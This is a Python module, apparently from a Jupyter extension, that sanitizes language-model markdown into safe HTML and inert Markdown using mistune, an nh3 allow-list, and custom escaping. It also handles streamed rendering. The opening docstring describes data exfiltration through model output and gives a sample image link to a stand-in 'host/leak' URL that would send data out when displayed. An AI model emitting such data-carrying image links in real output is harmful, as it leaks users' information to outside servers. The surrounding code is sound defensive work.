"""Model markdown → safe HTML, and model markdown → Markdown that is inert in every renderer.

Model text is never trusted as HTML: a ``<script>`` in an answer must stay visible text in the
live widget, in the saved notebook and on GitHub. And no output may load anything by itself:
an image in model markdown (``![c](http://host/leak?k=...)``) would be fetched as soon as the
output is shown, live or when a saved (even untrusted) notebook is opened, sending whatever the
model put in the URL. Images in our outputs come only from the image outputs we build from
bytes (tool results, attachments); an image *reference* in model text is shown as inert text.
Layers:

1. mistune 3 with ``escape=True`` turns raw HTML in the markdown into text, its own
   ``safe_url`` replaces ``javascript:``-style links with ``#harmful-link``, and our renderer
   writes every image (inline, reference, in tables, links, quotes...) as visible text;
2. :func:`nh3.clean` then applies a conservative allow-list (no img/svg/style/iframe/form or any
   other tag that loads, no ``src``/``srcset`` or ``on*`` attributes, ``style`` only on the
   ``pre``/``code``/``span`` of highlighted code and only with colour and font properties, only
   http/https/mailto URLs), in case mistune ever lets something through;
3. the saved record's ``text/markdown`` (read by whatever renderer prefers Markdown: marked,
   markdown-it, mistune, cmark) is :func:`inert_markdown`: safe by construction, with no
   literal ``<``, image opener or link destination outside the code fences we write
   ourselves (docs/security.md, "Markdown we publish").

Every scanner of code fences here is :func:`verbatim_spans`, one CommonMark reading.
Pure module: no IPython or ipywidgets imports.
"""

from __future__ import annotations

import collections
import functools
import html
import re
from dataclasses import dataclass

import mistune
import nh3

from byre_jupyter.ui.highlight import (
    CODE_STYLE_PROPERTIES,
    code_box,
    code_chunks,
    highlight_code,
    language_of,
)
from byre_jupyter.ui.reveal import reveal

__all__ = [
    "ALLOWED_TAGS",
    "MATH_IGNORE",
    "MATH_PROCESS",
    "MAX_TABLE_COLUMNS",
    "Verbatim",
    "clean_html",
    "code_fence",
    "escape_text",
    "inert_line",
    "inert_markdown",
    "inert_text",
    "normalize_newlines",
    "open_verbatim",
    "render_markdown",
    "split_blocks",
    "tolerant_markdown",
    "verbatim_content",
    "verbatim_spans",
]

#: Tags model markdown may produce (what mistune emits for CommonMark, tables, strikethrough).
ALLOWED_TAGS: frozenset[str] = frozenset(
    {
        "a", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6",
        "hr", "i", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup", "table",
        "tbody", "td", "th", "thead", "tr", "ul",
    }
)  # fmt: skip

_ATTRIBUTES: dict[str, set[str]] = {
    "a": {"href", "title"},
    "td": {"align"},
    "th": {"align"},
    "ol": {"start"},
    # Only the code blocks we highlight carry styles (model HTML is escaped before this),
    # and only colour and font properties survive (CODE_STYLE_PROPERTIES).
    "pre": {"style"},
    "code": {"style"},
    # A revealed hidden character in code is a styled span named by its title (ui/reveal.py).
    "span": {"style", "class", "title"},
}
_URL_SCHEMES = {"http", "https", "mailto"}

#: Classes for MathJax (JupyterLab's MathJax 3, nbconvert's MathJax 2): our own HTML is
#: skipped, so a ``$`` we write (a cost, a user's ``$HOME``) is never read as maths; model
#: markdown is typeset inside it.
MATH_IGNORE = "mathjax_ignore tex2jax_ignore"
MATH_PROCESS = "mathjax_process tex2jax_process"

#: Longest URL shown in the text that replaces an image.
_SHOWN_URL_CHARS = 160


class _InertImages(mistune.HTMLRenderer):
    """mistune's HTML renderer, except that an image is text saying what was not loaded."""

    def image(self, text: str, url: str, title: str | None = None) -> str:
        alt = mistune.util.striptags(text).strip()  # children are already escaped HTML
        shown = url if len(url) <= _SHOWN_URL_CHARS else url[:_SHOWN_URL_CHARS] + "…"
        label = f"{alt} — " if alt else ""
        return f"[image not loaded: {label}{escape_text(shown)}]"

    def block_code(self, code: str, info: str | None = None) -> str:
        return highlight_code(code, info)

    # Math: ``$...$`` and ``$$...$$`` stay TeX between dollar signs, untouched by
    # emphasis or escapes, each in an element of its own, for the notebook's MathJax to
    # typeset in the final output (MathJax finds its delimiters within one element's text).
    # Every other ``$`` is alone in a ``<span>`` of its own, so it can never pair up with
    # another one: "$5 and $6" stays money, as mistune decided.
    def inline_math(self, text: str) -> str:
        return f"<span>${escape_text(text)}$</span>"

    def block_math(self, text: str) -> str:
        return f"<p>$${escape_text(text)}$$</p>\n"

    def text(self, text: str) -> str:
        return escape_text(text).replace("$", "<span>$</span>")


_markdown = mistune.create_markdown(
    renderer=_InertImages(escape=True),
    hard_wrap=False,
    plugins=["table", "strikethrough", "url", "math"],
)


def escape_text(text: str) -> str:
    """Escape a plain string for HTML text or attribute context."""
    return html.escape(text, quote=True)


def clean_html(fragment: str) -> str:
    """Sanitize an HTML fragment with the conservative model-content allow-list."""
    return nh3.clean(
        fragment,
        tags=set(ALLOWED_TAGS),
        attributes=_ATTRIBUTES,
        url_schemes=_URL_SCHEMES,
        filter_style_properties=set(CODE_STYLE_PROPERTIES),
        link_rel="noopener noreferrer",
        strip_comments=True,
    )


def render_markdown(text: str, *, growing: bool = False) -> str:
    """Render untrusted markdown to sanitized HTML.

    Raw HTML in ``text`` is escaped (it shows as text), code blocks become ``<pre><code>``,
    GFM tables are kept, and the result passes :func:`nh3.clean`.

    The text is rendered block by block (:func:`split_blocks`), each finished block once: a
    streamed answer is re-rendered many times a second while it grows, and all but its last
    block are what was rendered the time before (kernel CPU, bench/RESULTS.md 3). ``growing``
    text is still being written: its last block goes through :func:`tolerant_markdown`, and
    is rendered in pieces when it is a long code block, table or paragraph (see
    :func:`_render_growing`).
    """
    text = normalize_newlines(text)  # as mistune reads it, so the scanners see its lines
    if _WHOLE_ONLY.search("\n" + text):  # blocks tied across blank lines: render all at once
        return _render(tolerant_markdown(text) if growing else text)
    *done, last = split_blocks(text)
    rendered = "".join(map(_render_block, done))
    return rendered + (_render_growing(last) if growing else _render_block(last))


def _render(text: str) -> str:
    rendered = _markdown(_bounded_tables(text))
    assert isinstance(rendered, str)  # create_markdown() with the default renderer
    return clean_html(rendered)


#: Finished blocks, by their text: the live view renders each of them again at every flush
#: until it freezes them, and the final record renders them once more. Bounded in entries and
#: in their size (highlighted code is several times its text): at worst some 12 MiB of a
#: kernel's memory, for paragraphs of prose well under 1 MiB.
_render_cached = functools.lru_cache(maxsize=512)(_render)
_CACHED_BLOCK_CHARS = 4096
#: A long block (a big code block, a table no live view grew) is rendered whole when it is
#: finished, by the live view and again by the record the turn ends with, a moment later; a
#: whole 1,000-line code block is highlighted in about a tenth of a second. The last two such
#: blocks are kept (a few MiB at most: the HTML of blocks up to 256 Ki characters).
_render_long = functools.lru_cache(maxsize=2)(_render)
_LONG_BLOCK_CHARS = 1 << 18


def _render_block(text: str) -> str:
    if len(text) <= _CACHED_BLOCK_CHARS:
        return _render_cached(text)
    if (table := _finished_table(text)) is not None:
        return table
    return _render_long(text) if len(text) <= _LONG_BLOCK_CHARS else _render(text)


def _finished_table(text: str) -> str | None:
    """A long finished table the live view rendered in pieces while it grew, from those pieces
    (cached). A text that :func:`tolerant_markdown` leaves as it is renders in pieces to what
    it renders to whole (the growing render's invariant), so the record is the one it always
    was; a table it would change (a row without its closing pipe, an indented row) is
    rendered whole. Rendered whole again, a 500-row table cost its turn 30 ms of the kernel's
    110 ms of rendering; but a table no live view grew (the draft, a headless run) is rendered
    whole, as its pieces rendered cold cost a quarter more (the head again in each)."""
    if not text.startswith("|") or _first_piece(text) not in _GROWN_TABLES:
        return None
    if not _regular_table(text):
        return None
    return _table_pieces(text, finished=True) if tolerant_markdown(text) == text else None


def _regular_table(text: str) -> bool:
    """Every line a row of as many pipes as the head, closed by one, with no escape or code
    span. mistune 3.3.0 (our oldest pin) renders a table whose rows differ (a row ``||a``
    without its closing pipe among ``||`` rows) to other cells whole than in pieces
    (hypothesis found it in the oldest tier), so only such regular tables, which is what
    tables in answers are, take the pieced record."""
    lines = text.rstrip("\n").split("\n")
    pipes = lines[0].count("|")
    return all(
        line.rstrip().endswith("|") and line.count("|") == pipes and not {"\\", "`"} & set(line)
        for line in lines
    )


#: The first pieces of the tables the live view rendered in pieces lately.
_GROWN_TABLES: collections.deque[str] = collections.deque(maxlen=4)


def _first_piece(text: str) -> str:
    return "\n".join(text.split("\n", 2 + TABLE_PIECE_ROWS)[: 2 + TABLE_PIECE_ROWS])


# --- the growing block, in pieces ---------------------------------------------------------------
#
# The live view renders the block being written again at every flush. Rendered whole, a long
# code block, table or paragraph cost time in proportion to the block, not to the delta: a
# 1,000-line fence streamed in 4-character deltas took most of a core (bench/RESULTS.md,
# shapes). These three shapes are rendered in pieces instead, each finished piece once
# (cached, and sanitized once: nh3 serializes each element of a fragment on its own, so the
# cleaned pieces join to the cleaned whole), and only the piece being written again. Each
# piece is cut where the whole text would render the same: the invariant is that the result
# equals ``_render(tolerant_markdown(block))``, byte for byte (tests/unit/ui/
# test_growing_render.py), with one documented exception in :func:`code_chunks`. Anything
# else, or a piece that does not render as expected, is rendered whole as before. Only the
# live view's growing text takes this path, and a finished table (:func:`_finished_table`).

#: Rows per piece of a growing table.
TABLE_PIECE_ROWS = 8
#: A piece of a growing paragraph is at least this long.
PARAGRAPH_PIECE_CHARS = 1024


def _render_growing(block: str) -> str:
    text = tolerant_markdown(block)
    for pieces in (_fence_pieces, _table_pieces, _paragraph_pieces):
        rendered = pieces(text)
        if rendered is not None:
            return rendered
    return _render(text)


def _fence_pieces(text: str) -> str | None:
    """A block that is one code fence: its box, and its code in :func:`code_chunks`."""
    if not text.startswith(("```", "~~~")):
        return None
    spans = verbatim_spans(text, math=False)
    if len(spans) != 1 or text[spans[0].end :].strip() or spans[0].indent:
        return None  # (text after the fence is another block)
    span = spans[0]
    if "\\" in span.info or "&" in span.info:
        return None  # mistune unescapes these: only its own reading is sure
    code = verbatim_content(text, span)
    code = f"{code}\n" if code else ""  # as mistune hands a fence's code to block_code
    opening, closing = _clean_box()
    return opening + "".join(code_chunks(code, span.info, clean_html)) + closing


@functools.lru_cache(maxsize=1)
def _clean_box() -> tuple[str, str]:
    opening, closing = code_box()
    cleaned = clean_html(f"{opening}{closing}")
    at = cleaned.index("</code>")
    return cleaned[:at], cleaned[at:]


def _table_pieces(text: str, *, finished: bool = False) -> str | None:
    """A block that is one table: its head once, its rows :data:`TABLE_PIECE_ROWS` at a time.
    The pieces before the last are cached, and the last too in a ``finished`` table."""
    lines = text.rstrip("\n").split("\n")
    if len(lines) <= 2 + TABLE_PIECE_ROWS or not all(line.startswith("|") for line in lines):
        return None
    if max(line.count("|") for line in lines) >= MAX_TABLE_COLUMNS:
        return None  # (a wide table is shown as code, by _bounded_tables)
    head = "\n".join(lines[:2])
    rows = lines[2:]
    parts: list[str] = []
    opening = ""
    for at in range(0, len(rows), TABLE_PIECE_ROWS):
        piece = "\n".join(rows[at : at + TABLE_PIECE_ROWS])
        cached = finished or at + TABLE_PIECE_ROWS < len(rows)
        rendered = (_render_cached if cached else _render)(f"{head}\n{piece}")
        before, tbody, inner = rendered.partition("<tbody>\n")
        inner, end, after = inner.rpartition("</tbody>\n</table>\n")
        if not tbody or not end or after or (opening and before != opening):
            return None  # a row that makes it no table (mistune drops the table for it)
        opening = before
        parts.append(inner)
    if not finished and (first := _first_piece(text)) not in _GROWN_TABLES:
        _GROWN_TABLES.append(first)
    return f"{opening}<tbody>\n{''.join(parts)}</tbody>\n</table>\n"


# What a paragraph's piece may not leave open, outside code spans: an emphasis, strikethrough,
# code span or link opener (shown as its literal character when nothing in the piece closed
# it, and a later piece could), a ``<`` (raw HTML, autolinks) or a ``$`` (maths). An ``_``
# inside a word can open nothing.
_LEFT_OPEN = re.compile(r"[*~\[\]`]|&lt;|<span>\$|(?<![^\W_])_|_(?![^\W_])")
_CODE_SPAN = re.compile(r"<code>.*?</code>", re.DOTALL)


def _paragraph_pieces(text: str) -> str | None:
    """A long block of one line that starts with a letter (so a paragraph, whatever follows
    on that line), cut after a space before a letter (so each piece is a paragraph alone),
    where the piece before the cut leaves nothing open (``_LEFT_OPEN``)."""
    if len(text) < 2 * PARAGRAPH_PIECE_CHARS or not text[:1].isalpha():
        return None
    if "\n" in text.rstrip("\n"):
        return None  # a second line could make it a heading or a table
    parts: list[str] = []
    start = 0
    cut = text.find(" ", PARAGRAPH_PIECE_CHARS)
    while 0 < cut < len(text) - 1:
        if not text[cut + 1].isalpha() or text[cut - 1] == " ":
            cut = text.find(" ", cut + 1)  # not a cut: the next word may be one
        elif (inner := _closed_piece(text[start:cut])) is not None:
            parts.append(f"{inner} ")
            start = cut + 1
            cut = text.find(" ", start + PARAGRAPH_PIECE_CHARS)
        else:  # something left open: it may close a little further on
            cut = text.find(" ", cut + PARAGRAPH_PIECE_CHARS // 4)
    rendered = _render(text[start:])
    if not parts:
        return rendered
    if not (rendered.startswith("<p>") and rendered.endswith("</p>\n")):
        return None
    return "<p>" + "".join(parts) + rendered[3:]


@functools.lru_cache(maxsize=256)
def _closed_piece(piece: str) -> str | None:
    """The inside of ``piece`` rendered as a paragraph, if it leaves nothing open."""
    rendered = _render(piece)
    if not (rendered.startswith("<p>") and rendered.endswith("</p>\n")):
        return None
    inner = rendered[3:-5]
    return None if _LEFT_OPEN.search(_CODE_SPAN.sub("", inner)) else inner


#: Wider tables are shown as text: mistune's table costs grow with rows times columns (a
#: 5,000-column table took seconds per render, on the kernel's loop; bench/RESULTS.md).
MAX_TABLE_COLUMNS = 64
_DELIMITER_ROW = re.compile(r"^ {0,3}\|?(?: *:?-+:? *\|)+ *(?::?-+:? *)?$", re.MULTILINE)


def _bounded_tables(text: str) -> str:
    """``text`` with every table wider than :data:`MAX_TABLE_COLUMNS` made a plain code block
    (its header line, delimiter row and the rows up to a blank line)."""
    if text.count("|") <= MAX_TABLE_COLUMNS:
        return text
    lines = text.split("\n")
    starts = [0]
    for line in lines:
        starts.append(starts[-1] + len(line) + 1)
    code = verbatim_spans(text, math=False)
    for n in range(len(lines) - 1, 0, -1):
        line = lines[n]
        if line.count("|") < MAX_TABLE_COLUMNS or not _DELIMITER_ROW.match(line):
            continue  # (a row has at most one cell more than it has pipes)
        if len(_cells(line)) <= MAX_TABLE_COLUMNS:
            continue
        if any(span.start <= starts[n] < span.end for span in code):
            continue  # a table-like line in code is code
        end = n + 1
        while end < len(lines) and lines[end].strip():
            end += 1
        table = "\n".join(lines[n - 1 : end])
        lines[n - 1 : end] = ["", code_fence(table), ""]
    return "\n".join(lines)


# Where a text may be cut so that its pieces, each rendered alone, give exactly what the whole
# gives: after a blank line, before a line that starts a block and cannot continue or belong to
# an earlier one (not indented, not a list item, quote, thematic break or HTML block), and
# outside code fences and $$ maths blocks (which blank lines do not end).
_BLOCK_START = re.compile(r"\n\n(?=[^\s>*+\-\d<])")
# What ties blocks together beyond split_blocks' cuts: a link reference definition ("[x]: url")
# serves links in any other block, and an HTML block that blank lines do not end (CommonMark
# types 1-5: <pre>, <script>, <style>, <textarea>, comments, <?...?>, <!X...>, CDATA).
_WHOLE_ONLY = re.compile(
    r"\n {0,3}(?:\[[^\]]+\]:|<(?:pre|script|style|textarea)(?:[\s>]|$)|<[!?])",
    re.MULTILINE | re.IGNORECASE,
)


def normalize_newlines(text: str) -> str:
    """``\\r\\n`` and a lone ``\\r`` as ``\\n``, as every Markdown renderer reads them: a scanner
    that kept ``\\r`` inside a line would see one line where marked sees two."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


# --- the one fence scanner --------------------------------------------------------------------

# Each line is matched from the newline before it (the text is read with one in front): a
# pattern that starts with a literal is scanned several times faster than one that starts
# with ``^``, and the fence scanner reads every growing text at every flush.
_VERBATIM_EDGE = re.compile(r"\n( {0,3})(?:(`{3,}|~{3,})(.*)|\$\$[ \t]*)$", re.MULTILINE)


@dataclass(frozen=True)
class Verbatim:
    """A code fence or ``$$`` block of a text, as CommonMark (and mistune) open and close it."""

    start: int  #: offset of the opening line
    end: int  #: offset just after the closing line (or the end of the text, left open)
    opener: str  #: the fence's run (```` ``` ````, ``~~~~``...) or ``$$``
    info: str  #: the fence's info string (``""`` for ``$$``)
    indent: int  #: spaces before the opener (content lines lose as many)
    closed: bool

    @property
    def math(self) -> bool:
        return self.opener == "$$"


@functools.lru_cache(maxsize=16)
def verbatim_spans(text: str, *, math: bool = True) -> tuple[Verbatim, ...]:
    """Where code fences (and, with ``math``, ``$$`` blocks) are in ``text`` (newlines already
    normalised): an opener is indented at most three spaces, a backtick fence's info string
    has no backtick; a fence closes on a line of its own character, at least as long, with
    only spaces after it; one left open runs to the end. The one scanner of this package:
    block splitting, streaming tolerance, the inert Markdown and the draft all use it.

    Cached (a tuple, immutable): a flush of the live view asks about the same growing block
    from its splitter, its tolerance and its fence (bench/RESULTS.md, shapes)."""
    spans: list[Verbatim] = []
    opened: re.Match[str] | None = None
    for edge in _VERBATIM_EDGE.finditer("\n" + text):  # (offsets: see _VERBATIM_EDGE)
        fence, info = edge.group(2), edge.group(3)
        if fence is None and not math:
            continue
        if opened is None:
            if fence is not None and fence[0] == "`" and "`" in info:
                continue  # inline code, not a fence
            opened = edge
            continue
        opener = opened.group(2) or "$$"
        if (
            fence is None
            if opener == "$$"
            else fence is not None
            and fence[0] == opener[0]
            and len(fence) >= len(opener)
            and not info.strip(" \t")
        ):
            spans.append(_verbatim(opened, edge.end() - 1, closed=True))
            opened = None
    if opened is not None:
        spans.append(_verbatim(opened, len(text), closed=False))
    return tuple(spans)


def _verbatim(opened: re.Match[str], end: int, *, closed: bool) -> Verbatim:
    return Verbatim(
        start=opened.start(),
        end=end,
        opener=opened.group(2) or "$$",
        info=(opened.group(3) or "").strip(),
        indent=len(opened.group(1)),
        closed=closed,
    )


def verbatim_content(text: str, span: Verbatim) -> str:
    """The lines between a span's opener and its closer, without the opener's indentation."""
    lines = text[span.start : span.end].split("\n")
    body = lines[1:-1] if span.closed else lines[1:]
    if not span.closed and body and body[-1] == "":
        body = body[:-1]
    if not span.indent:
        return "\n".join(body)
    return "\n".join(_dedent(line, span.indent) for line in body)


def _dedent(line: str, indent: int) -> str:
    spaces = len(line) - len(line.lstrip(" "))
    return line[min(spaces, indent) :]


def open_verbatim(text: str) -> Verbatim | None:
    """The fence (or ``$$`` block) still open at the end of ``text``, if any."""
    spans = verbatim_spans(text)
    return spans[-1] if spans and not spans[-1].closed else None


def split_blocks(text: str) -> list[str]:
    """``text`` cut into pieces that render alone as they do together (see ``_BLOCK_START``;
    unless ``_WHOLE_ONLY`` finds something in it); the pieces join back to ``text``, and the
    last is the one still growing when ``text`` is streamed."""
    spans = verbatim_spans(text)
    pieces: list[str] = []
    start = span = 0
    for match in _BLOCK_START.finditer(text):
        cut = match.end()
        while span < len(spans) and spans[span].end < cut:
            span += 1
        if span < len(spans) and spans[span].start < cut:
            continue  # inside a fence: a blank line does not end it
        pieces.append(text[start:cut])
        start = cut
    pieces.append(text[start:])
    return pieces


# --- Markdown that is inert in every renderer -------------------------------------------------
#
# Built so, not guessed: we do not try to predict what marked, markdown-it, mistune or cmark
# will read as code (they disagree: docs/security.md, "Markdown we publish"). Outside the code
# blocks we write ourselves, no character that opens raw HTML, an image or a link destination
# is left literal, inside code spans or not; code blocks are our own backtick fences, longer
# than any backtick run inside them, at column 0 between blank lines, so no renderer can end
# them early.

_INERT = {"<": "&lt;", "![": "&#33;[", "](": "]&#40;", "]:": "]&#58;"}
_INERT_RE = re.compile("|".join(re.escape(k) for k in _INERT))
_BACKSLASHED = re.compile(r"([\\`*_\[\]#|$])")


def inert_text(text: str) -> str:
    """Untrusted Markdown prose with nothing live: ``<`` is an entity (no tag, comment or
    autolink can start), ``![`` starts no image, ``](`` and ``]:`` give no link a destination
    (so no ``javascript:`` or tracking URL is one click away). Entities are never structure in
    any renderer, and a code span that keeps them literal only shows them."""
    return _INERT_RE.sub(lambda m: _INERT[m.group()], text)


def inert_line(text: str) -> str:
    """An untrusted one-liner (a title, a prompt preview, a notice) as plain Markdown text:
    Markdown punctuation backslash-escaped first, then :func:`inert_text`."""
    return inert_text(_BACKSLASHED.sub(r"\\\1", " ".join(text.split())))


def code_fence(code: str, info: str = "") -> str:
    """``code`` as a fenced block every renderer ends where we do: backticks one longer than
    its longest run (at least three), hidden characters revealed (docs/security.md), the
    info string only a language word."""
    code = reveal(normalize_newlines(code))
    longest = max((len(run) for run in re.findall(r"`+", code)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{language_of(info)}\n{code.rstrip(chr(10))}\n{fence}"


def inert_markdown(text: str) -> str:
    """Untrusted Markdown that renders inert in marked, markdown-it, mistune and CommonMark.

    Code fences (as :func:`verbatim_spans` finds them) become our own :func:`code_fence`
    between blank lines; everything else goes through :func:`inert_text`.
    """
    text = normalize_newlines(text)
    out: list[str] = []
    pos = 0
    for span in verbatim_spans(text, math=False):
        out.append(inert_text(text[pos : span.start]).rstrip("\n"))
        out.append(code_fence(verbatim_content(text, span), span.info))
        pos = span.end
    out.append(inert_text(text[pos:]).lstrip("\n") if out else inert_text(text))
    return "\n\n".join(part for part in out if part.strip())


# --- half-written markdown (the live view while a block streams) ----------------------------

_PARTIAL_FENCE = re.compile(r"^ {0,3}(`{1,2}|~{1,2})$")
_TABLE_LINE = re.compile(r"^ {0,3}\|")
_DELIMITER_CELL = re.compile(r"^\s*:?-+:?\s*$")


def _cells(line: str) -> list[str]:
    row = line.strip()
    row = row[1:] if row.startswith("|") else row
    row = row[:-1] if row.endswith("|") and not row.endswith("\\|") else row
    return re.split(r"(?<!\\)\|", row)


def _closed(line: str) -> bool:
    row = line.rstrip()
    return row.endswith("|") and not row.endswith("\\|") and len(row.strip()) > 1


def _tolerant_table(lines: list[str]) -> list[str]:
    """The table at the end of a streaming text, as far as it can show as a table (mistune
    wants every row between pipes and as wide as the header)."""
    if len(lines) < 2 or not _closed(lines[0]) or not _closed(lines[1]):
        return []  # the header or its delimiter row is still being written
    header, delimiter = _cells(lines[0]), _cells(lines[1])
    if len(delimiter) != len(header) or not all(_DELIMITER_CELL.match(c) for c in delimiter):
        return []
    if len(lines) == 2:
        return lines
    last = lines[-1]
    if not last.strip():
        return lines
    # The row being written: closed and padded to the header's width, so it stays a row.
    cells = _cells(last) if _closed(last) else _cells(last.rstrip() + " |")
    cells = (cells + [" "] * len(header))[: len(header)]
    return [*lines[:-1], "|" + "|".join(cells) + "|"]


def tolerant_markdown(text: str) -> str:
    """``text`` as it is still being written, made to render without raw fragments.

    A table whose header has no complete delimiter row yet is held back (it would show as
    ``| a | b |`` text), the row being written is padded so it stays in its table, and a
    fence opener of one or two backticks on the last line waits for its third. An
    unclosed code fence needs nothing: CommonMark runs it to the end. Only for the growing
    part of the live view; the final record renders the text as it is.
    """
    # (A trailing newline adds no fence edge: the spans are those of the text without it, but
    # for where an open one ends; the same call as the growing fence's, which the cache meets.)
    spans = verbatim_spans(text, math=False)
    if spans and not spans[-1].closed:
        return text  # an unclosed fence runs to the end (a growing code block: no split)
    lines = text.split("\n")
    ending = [""] if len(lines) > 1 and lines[-1] == "" else []  # text ends with a newline
    if ending:
        lines.pop()
    after = spans[-1].end if spans else 0  # tables and half fences only count after it
    table_start: int | None = None
    offset = 0
    for n, line in enumerate(lines):
        if offset >= after:
            if not _TABLE_LINE.match(line):
                table_start = None
            elif table_start is None:
                table_start = n
        offset += len(line) + 1
    if table_start is not None:
        lines = lines[:table_start] + _tolerant_table(lines[table_start:])
    elif lines and _PARTIAL_FENCE.match(lines[-1]):
        lines = lines[:-1]
    return "\n".join(lines + ending)
